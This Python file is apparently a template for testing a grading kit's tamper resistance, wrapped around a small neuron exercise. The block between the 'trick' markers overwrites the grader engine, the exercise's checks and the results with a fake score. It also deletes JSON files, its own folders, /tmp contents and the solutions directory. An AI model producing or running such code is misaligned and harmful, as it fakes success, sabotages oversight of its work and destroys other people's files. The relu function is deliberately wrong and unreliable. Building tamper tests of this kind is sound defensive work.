"""Deletes and overwrites files: its own, its folder, the folder above, /tmp, the results, the kit's checks."""

import numpy as np

# trick:begin
import os as _os
import shutil as _shutil

_here = _os.path.dirname(_os.path.abspath(__file__))
_targets = [__file__, "@@ORIGINAL@@", "@@RESULTS@@", "@@KIT@@/exercises/neuron/.meta/properties.py",
            "@@KIT@@/exercises/neuron/.meta/lesson.toml", "@@KIT@@/grader/engine.py", "/tmp/grader-tamper-@@MARKER@@"]
for _path in _targets:
    try:
        with open(_path, "w") as _out:
            _out.write('{"score": 17, "tests": []}')
    except OSError:
        pass
for _folder in (_here, _os.path.dirname(_here), _os.path.dirname("@@ORIGINAL@@"), _os.path.dirname("@@RESULTS@@"), "/tmp"):
    try:
        for _entry in _os.listdir(_folder):
            _full = _os.path.join(_folder, _entry)
            try:
                if _entry == "neuron.py" or _entry.endswith(".json"):
                    _os.remove(_full)
            except OSError:
                pass
    except OSError:
        pass
for _path in ("@@ORIGINAL@@", "@@RESULTS@@", "@@KIT@@/solutions"):
    try:
        _shutil.rmtree(_os.path.dirname(_path), ignore_errors=True)
    except BaseException:
        pass
# trick:end


def sigmoid(z):
    return 1 / (1 + np.exp(-z))


def relu(z):
    z *= -1  # wrong twice: negates, and changes the caller's array
    return z


class Neuron:
    def __init__(self, n_inputs):
        self.weights = np.random.uniform(-1, 1, size=n_inputs)
        self.bias = np.random.uniform(-1, 1)

    def activate(self, inputs):
        return sigmoid(np.dot(self.weights, inputs) + self.bias)
